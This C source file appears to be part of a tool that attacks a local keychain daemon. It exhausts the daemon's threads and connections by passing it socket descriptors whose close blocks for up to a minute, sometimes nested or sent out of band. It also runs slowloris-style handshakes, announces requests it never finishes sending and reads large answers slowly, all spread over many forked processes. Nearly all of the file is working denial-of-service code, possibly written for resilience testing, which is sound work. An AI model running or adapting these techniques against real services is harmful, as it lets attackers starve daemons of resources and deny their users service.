/* Programs that hold what other programs need. They send descriptors whose closing takes long, and never end handshakes.
   They announce large requests and do not send them, and they ask for large answers and do not read them. */
#define _GNU_SOURCE
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { CONNECTIONS = 16, LINGER_SECONDS = 60, LARGE = 16 << 20, MOST_DESCRIPTORS = 16 };

static const uint8_t hello[] = {0xA1, 0x00, 0x81, PROTOCOL_VERSION};

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* Makes a TCP socket with bytes that nobody reads: the process that closes it last has to wait. Its other end stays open in
   this process. */
static int lingering(void) {
    static int listener = -1;
    static struct sockaddr_in address = {.sin_family = AF_INET};
    socklen_t size = sizeof address;
    int room = 4096;
    if (listener < 0) {
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &room, sizeof room);
        if (bind(listener, (struct sockaddr *)&address, size) != 0 || listen(listener, 1024) != 0
            || getsockname(listener, (struct sockaddr *)&address, &size) != 0)
            return -1;
    }
    int end = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    setsockopt(end, SOL_SOCKET, SO_SNDBUF, &room, sizeof room);
    if (end < 0 || connect(end, (struct sockaddr *)&address, sizeof address) != 0) return -1;
    static const char bytes[4096];
    while (send(end, bytes, sizeof bytes, MSG_DONTWAIT | MSG_NOSIGNAL) > 0) {}
    struct linger linger = {1, LINGER_SECONDS};
    setsockopt(end, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
    return end;
}

/* Sends one message with the same descriptor `count` times. */
ssize_t attach(int end, const void *bytes, size_t size, int descriptor, int count, int flags) {
    union {
        struct cmsghdr header;
        char room[CMSG_SPACE(sizeof(int) * MOST_DESCRIPTORS)];
    } control = {0};
    struct iovec piece = {(void *)bytes, size};
    struct msghdr message = {
        .msg_iov = &piece,
        .msg_iovlen = 1,
        .msg_control = &control,
        .msg_controllen = CMSG_SPACE(sizeof(int) * (size_t)count)};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int) * (size_t)count);
    for (int index = 0; index < count; index++)
        memcpy(CMSG_DATA(header) + (size_t)index * sizeof(int), &descriptor, sizeof(int));
    return sendmsg(end, &message, flags | MSG_NOSIGNAL);
}

/* Makes a socket whose queue holds a lingering one: closing it closes both. */
static int nested(void) {
    int pair[2], inner = lingering();
    if (inner < 0 || socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) != 0) return -1;
    attach(pair[0], "", 1, inner, 1, 0);
    close(inner);
    close(pair[0]);
    return pair[1];
}

static void *close_and_wait(void *file) {
    close((int)(intptr_t)file);
    return NULL;
}

/* Closes a descriptor in another thread, since the close may take a minute. That is so if the other side has closed it
   before, or if the kernel did not take it. */
static void let_go(int file) {
    pthread_t thread;
    if (pthread_create(&thread, NULL, close_and_wait, (void *)(intptr_t)file) == 0) pthread_detach(thread);
}

/* Makes a connection whose end blocks a thread of the daemon that closes the attached descriptor. */
static void attach_one(const char *path, const char *way) {
    uint8_t frame[4 + sizeof hello] = {sizeof hello};
    memcpy(frame + 4, hello, sizeof hello);
    int end = keychain_connect(path);
    if (end < 0) return;
    int file = strcmp(way, "nested") == 0 ? nested() : lingering();
    if (file < 0) return;
    ssize_t sent = 0;
    if (strcmp(way, "many") == 0) {
        sent = attach(end, frame, sizeof frame, file, MOST_DESCRIPTORS, 0);
    } else if (strcmp(way, "urgent") == 0) {
        /* Out of band: readers skip this byte unless they ask for it. */
        sent = attach(end, frame, 1, file, 1, MSG_OOB);
    } else if (strcmp(way, "unread") == 0) {
        /* The descriptor follows a frame that ends the connection. */
        send(end, "\xFF\xFF\xFF\xFF", 4, MSG_NOSIGNAL);
        sent = attach(end, "", 1, file, 1, 0);
    } else if (strcmp(way, "late") == 0) {
        if (keychain_greet(end) == 0) sent = attach(end, frame, 4, file, 1, 0);
    } else {
        sent = attach(end, frame, sizeof frame, file, 1, 0);
    }
    if (sent > 0) let_go(file);
}

static int is_open(int end) {
    struct pollfd event = {.fd = end, .events = POLLRDHUP};
    return poll(&event, 1, 0) == 0;
}

/* Begins a hello and continues it a byte at a time. Connects again when the daemon ends a connection. */
static void greet_slowly(const char *path, double until) {
    int ends[CONNECTIONS];
    for (int index = 0; index < CONNECTIONS; index++) ends[index] = -1;
    for (size_t round = 0; now() < until; round++) {
        for (int index = 0; index < CONNECTIONS; index++) {
            if (ends[index] >= 0 && is_open(ends[index])) continue;
            if (ends[index] >= 0) close(ends[index]);
            int proof = memfd_create("attack", MFD_CLOEXEC | MFD_ALLOW_SEALING);
            fcntl(proof, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE);
            ends[index] = keychain_connect(path);
            if (ends[index] >= 0) attach(ends[index], "\x04", 1, proof, 1, MSG_DONTWAIT);
            close(proof);
        }
        usleep(20000);
        if (round % 100 == 99)
            for (int index = 0; index < CONNECTIONS; index++)
                if (ends[index] >= 0) send(ends[index], "", 1, MSG_NOSIGNAL | MSG_DONTWAIT);
    }
}

/* Announces the largest request, and sends it a byte at a time, so that it never ends. */
static void promise(const char *path, double until) {
    static const uint8_t length[4] = {0, 0, 0, 1};
    int ends[CONNECTIONS];
    for (int index = 0; index < CONNECTIONS; index++) ends[index] = -1;
    while (now() < until) {
        for (int index = 0; index < CONNECTIONS; index++) {
            if (ends[index] >= 0 && is_open(ends[index])) {
                send(ends[index], "", 1, MSG_NOSIGNAL | MSG_DONTWAIT);
                continue;
            }
            if (ends[index] >= 0) close(ends[index]);
            ends[index] = keychain_connect(path);
            if (ends[index] >= 0 && keychain_greet(ends[index]) == 0) send(ends[index], length, 4, MSG_NOSIGNAL);
        }
        usleep(20000);
    }
}

/* Asks for the large item, and reads only so much of it that the connection stays open. */
static void read_slowly(const char *path, double until) {
    static uint8_t bytes[64 << 10];
    while (now() < until) {
        int end = keychain_connect(path);
        if (end < 0 || keychain_greet(end) != 0 || keychain_ask(end, "large", NULL) != STATUS_SUCCESS) {
            if (end >= 0) close(end);
            usleep(20000);
            continue;
        }
        while (now() < until && recv(end, bytes, sizeof bytes, 0) > 0) usleep(400000);
        close(end);
    }
}

/* Prints how long an ordinary process takes to close such a descriptor, in seconds and at most ten. */
static int measure(void) {
    int file = lingering(), status, ours[2];
    if (file < 0 || pipe(ours) != 0) return perror("lingering"), 1;
    pid_t child = fork();
    close(ours[child == 0 ? 1 : 0]);
    if (child == 0) {
        /* This process is the last that has the descriptor open. */
        char byte;
        while (read(ours[0], &byte, 1) > 0) {}
        close(file);
        _exit(0);
    }
    close(file);
    close(ours[1]);
    double start = now();
    while (waitpid(child, &status, WNOHANG) == 0 && now() < start + 10) usleep(10000);
    kill(child, SIGKILL);
    printf("%.0f\n", now() - start);
    return 0;
}

/* hold measure
   hold attached|nested|many|urgent|unread|late SOCKET PROCESSES: keeps 20 connections of each process until its input ends
   hold greetings|promises|readers SOCKET PROCESSES SECONDS */
int verb_hold(int count, char **words) {
    if (count == 1 && strcmp(words[0], "measure") == 0) return measure();
    if (count < 3) return 2;
    signal(SIGPIPE, SIG_IGN);
    const char *way = words[0];
    double until = count > 3 ? now() + atof(words[3]) : 0;
    if (strcmp(way, "readers") == 0) {
        int end = keychain_connect(words[1]);
        void *secret = calloc(1, LARGE);
        if (end < 0 || !secret || keychain_greet(end) != 0) return 1;
        printf("stored %d\n", keychain_add(end, "large", secret, LARGE));
        close(end);
        free(secret);
    }
    int pipes[2];
    if (pipe(pipes) != 0) return 1;
    for (long process = 0; process < atol(words[2]); process++) {
        if (fork() != 0) continue;
        if (strcmp(way, "greetings") == 0) greet_slowly(words[1], until), _exit(0);
        if (strcmp(way, "promises") == 0) promise(words[1], until), _exit(0);
        if (strcmp(way, "readers") == 0) read_slowly(words[1], until), _exit(0);
        for (int index = 0; index < CONNECTIONS + 4; index++) attach_one(words[1], way);
        close(pipes[1]);
        char byte;
        while (read(0, &byte, 1) > 0) {}
        _exit(0);
    }
    close(pipes[1]);
    if (until > 0) {
        while (wait(NULL) > 0) {}
        return 0;
    }
    char byte;
    while (read(pipes[0], &byte, 1) > 0) {}
    printf("attached\n");
    while (read(0, &byte, 1) > 0) {}
    return 0;
}
